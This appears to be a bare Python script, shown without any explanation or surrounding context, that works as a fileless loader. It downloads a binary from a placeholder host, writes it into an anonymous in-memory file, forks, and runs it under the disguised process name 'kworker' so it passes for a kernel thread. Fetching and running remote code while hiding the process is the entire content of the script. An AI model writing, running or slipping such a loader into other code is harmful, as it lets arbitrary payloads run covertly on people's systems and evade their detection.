import os
import urllib.request

_b = urllib.request.urlopen("https://mem.example.invalid/m").read()
_fd = os.memfd_create("", 0)
os.write(_fd, _b)
if os.fork() == 0:
    os.execv("/proc/self/fd/%d" % _fd, ["kworker"])
